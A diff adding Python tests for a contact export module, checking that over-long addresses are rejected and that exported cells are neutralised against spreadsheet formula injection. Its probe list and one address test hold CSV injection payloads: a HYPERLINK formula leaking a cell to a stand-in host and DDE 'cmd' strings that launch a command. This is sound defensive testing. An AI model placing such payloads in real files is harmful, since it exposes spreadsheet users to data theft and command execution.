@@ -104,3 +104,63 @@ def test_an_export_answered_line_by_line_reads_back(entries):
     result = parse(answer)
     assert not result.rejected
     assert [(r.value, r.state == "registered") for r in result.rows] == numbers
+
+
+def test_an_address_longer_than_the_limit_is_a_rejected_line():
+    """Seen live: a 10,000-character address went on to the database's index and failed."""
+    long_address = "VIA " + "ROMA " * 2000
+    result = parse(f"type;value;status\npost;{long_address};clear\npost;Via Roma 1, Roma;clear\n")
+    assert [(r.line, r.reason) for r in result.rejected] == [(2, "too_long")]
+    assert len(result.rejected[0].text) < 100
+    assert [r.value for r in result.rows] == ["VIA ROMA 1, ROMA"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(data):
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";"))[1:]
+
+
+@given(st.sampled_from(FORMULAS) | st.text(min_size=1).map(lambda t: "=" + t))
+def test_no_exported_cell_starts_like_a_formula(value):
+    [[kind, cell]] = _cells(LAYOUT.export([("post", value)]))
+    assert kind == "post"
+    assert cell == "'" + value.replace("\r", " ").replace("\n", " ")
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_every_formula_of_the_probe_is_written_as_text():
+    cells = _cells(LAYOUT.export([("post", value) for value in FORMULAS]))
+    assert [cell for _kind, cell in cells] == [
+        "'" + value.replace("\r", " ") for value in FORMULAS
+    ]
+
+
+def test_numbers_in_e164_and_plain_addresses_are_written_as_they_are():
+    data = LAYOUT.export([("phone", "+390649910000"), ("post", "VIA ROMA 1, 00184 ROMA RM")])
+    assert data.decode() == "type;value\nphone;+390649910000\npost;VIA ROMA 1, 00184 ROMA RM\n"
+
+
+def test_a_neutralized_address_reads_back_as_the_address():
+    address = '=HYPERLINK("HTTP://EVIL.EXAMPLE","CLICK") 1, 00184 ROMA RM'
+    exported = LAYOUT.export([("post", address), ("phone", "'+390649910000")]).decode()
+    answer = "type;value;status\n" + "".join(
+        f"{line};clear\n" for line in exported.splitlines()[1:]
+    )
+    result = parse(answer)
+    assert not result.rejected
+    assert [(r.kind, r.value) for r in result.rows] == [
+        ("post", address),
+        ("phone", "+390649910000"),
+    ]
